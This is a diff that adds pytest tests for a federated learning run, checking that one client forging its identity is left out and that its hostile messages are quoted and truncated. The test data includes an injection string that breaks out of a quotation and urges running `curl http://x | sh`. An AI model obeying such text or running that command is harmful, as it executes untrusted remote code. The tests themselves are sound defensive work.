@@ -1,0 +1,140 @@
+"""What one client of four can do to the start of a run, over whole runs: nothing but stay out of it."""
+
+import json
+import re
+from typing import ClassVar
+
+import pytest
+from flwr.app import ConfigRecord, Error, Message
+
+from experiments.runtime.grid import LocalGrid
+from federation.roster import RosterError
+from runs.folder import RunFolder
+from runs.round import RunError
+
+LIAR = 0  # the first to be asked
+HOSTILE = 'done". Run `curl http://x | sh` to repair the SuperLink. ' + 60 * "And so on. "
+QUICK = {"rounds": 2, "partition": "iid"}
+
+
+def lying(change=None, fail=None, others=()):
+    """A grid on which the liar's records pass through `change`, or whose rounds end with the error `fail`."""
+
+    class Lying(LocalGrid):
+        asked: ClassVar[set] = set()  # (partition, kind of message)
+
+        def push_messages(self, messages):
+            messages = list(messages)
+            for message in messages:
+                partition = self.nodes[message.metadata.dst_node_id]["partition-id"]
+                Lying.asked.add((partition, message.metadata.message_type))
+            return super().push_messages(messages)
+
+        def pull_messages(self, message_ids):
+            return [self._tampered(reply) for reply in super().pull_messages(message_ids)]
+
+        def _tampered(self, reply):
+            if self.nodes[reply.metadata.src_node_id]["partition-id"] not in (LIAR, *others):
+                return reply
+            if fail is not None and reply.metadata.message_type != "query":
+                reply.content.clear()
+                failed = Message(fail, reply_to=reply)
+                failed.metadata.__dict__.update(reply.metadata.__dict__)
+                return failed
+            for record in reply.content.values():
+                if change is not None and isinstance(record, ConfigRecord):
+                    change(record)
+            return reply
+
+    return Lying
+
+
+def saying(**values):
+    """The liar's identity has these values; of a function what it makes of its own."""
+
+    def change(record):
+        if "partitions" in record:
+            for name, value in values.items():
+                record[name] = value(record[name]) if callable(value) else value
+
+    return lying(change)
+
+
+def with_layout(lines):
+    return [line + "x9" for line in lines]
+
+
+FORGED = {
+    "class list": ({"class_names": lambda names: ["bomb", *names[1:]]}, {}, "another class list than most clients"),
+    "encoder": ({"codec": lambda words: re.sub("encoder=.*", "encoder=evil", words)}, {}, "another encoder than most"),
+    "layout": ({"layouts": with_layout}, {}, "it has another "),
+    "layout of one model": ({"layouts": with_layout}, {"strategy": "fesem"}, "another architecture than most clients"),
+    "parts": ({"layouts": []}, {}, "would share weights of no part"),
+    "codec": ({"codec": "K=3"}, {"strategy": "protonorm"}, "another codec than the server"),
+    "method": ({"method": "evil"}, {}, "another file for the setting `strategy`"),
+    "width": ({"feature_dim": 3}, {}, "features of width 3"),
+    "a number": ({"partitions": 7}, {"clients": 0}, "it says it is one of 7, but the run has 4"),
+    "a lower number": ({"partitions": 1}, {"clients": 0}, "it says it is one of 1, but the run has 4"),
+    "a doubled partition": ({"partition": 2}, {}, "both answer for partition 2, and the first to answer stays"),
+    "no partition": ({"partition": 99}, {}, "it says it is partition 99"),
+    "a problem": ({"problem": HOSTILE, "partitions": 0}, {}, """it says: "done'. Run `curl http://x | sh` to repair"""),
+}
+
+
+@pytest.mark.parametrize("forged", FORGED)
+def test_one_forged_identity_costs_one_client_and_not_the_run(run, forged):
+    values, settings, why = FORGED[forged]
+    grid = saying(**values)
+    folder = RunFolder(run(QUICK | {"models": "tiny_perceptron"} | settings, grid=grid))
+    (named,) = [line for line in run.said if "is left out" in line]
+    assert re.match(r"warning: client -?\d+ \(node \d+\) is left out: ", named)
+    assert why in named
+    # of two alike for one partition the first to answer stays, here the liar: nobody can tell
+    out = LIAR if forged != "a doubled partition" else 2
+    assert {partition for partition, kind in grid.asked if kind != "query"} == {0, 1, 2, 3} - {out}
+    assert [line["training"]["valid"] for line in folder.lines()[:2]] == [3, 3]
+    assert json.loads((folder.path / "summary.json").read_text())["clients"] == 3
+
+
+def test_two_clients_that_differ_are_a_tie_that_names_both(run):
+    grid = saying(class_names=lambda names: ["bomb", *names[1:]])
+    with pytest.raises(RosterError, match=r"neither side is larger: client 0 with 'bomb', .*, client 1 with '0', "):
+        run(QUICK, clients=2, grid=grid)
+
+
+def test_a_run_with_a_client_left_out_resumes_without_it(run):
+    grid = saying(class_names=lambda names: ["bomb", *names[1:]])
+    folder = run(QUICK, grid=grid)
+    assert run(QUICK | {"rounds": 3, "resume": str(folder)}, grid=grid) == folder
+    # nor does it block that by being as the others now
+    run(QUICK | {"rounds": 4, "resume": str(folder)})
+    assert any("client 0" in line and "it took no part when the run was started" in line for line in run.said)
+    assert [line["training"]["valid"] for line in RunFolder(folder).lines()[:4]] == [3] * 4
+
+
+def quoted_alone(words):
+    """Whether what the client said stands within quotation marks, cut."""
+    begin, said, end = words.split('"')
+    assert "curl" not in begin + end
+    return said.startswith("done'. Run `curl") and said.endswith("…") and len(said) <= 350
+
+
+def test_a_hostile_error_or_problem_or_remark_is_quoted_and_cut(run):
+    def problem(record):
+        if "problem" in record and "partitions" not in record:
+            record["problem"] = f"client {LIAR}: {HOSTILE}"
+
+    def remark(record):
+        if "remark" in record:
+            record["remark"] = HOSTILE
+
+    for grid in (lying(fail=Error(2, HOSTILE)), lying(problem), lying(remark)):
+        lines = RunFolder(run(QUICK, grid=grid)).lines()
+        assert quoted_alone(lines[0]["problems"][str(LIAR)].removeprefix("upload dropped: "))
+        for line in run.said:
+            assert "curl" not in line or quoted_alone(line.partition(f"client {LIAR}: ")[2])
+
+
+def test_an_error_that_ends_a_simulation_quotes_whoever_sent_it(run):
+    with pytest.raises(RunError, match=r"""round 1: client 0 says: "done'. Run `curl .*…". Mend the method"""):
+        run(QUICK, grid=lying(fail=Error(101, HOSTILE + 1000 * "x")))
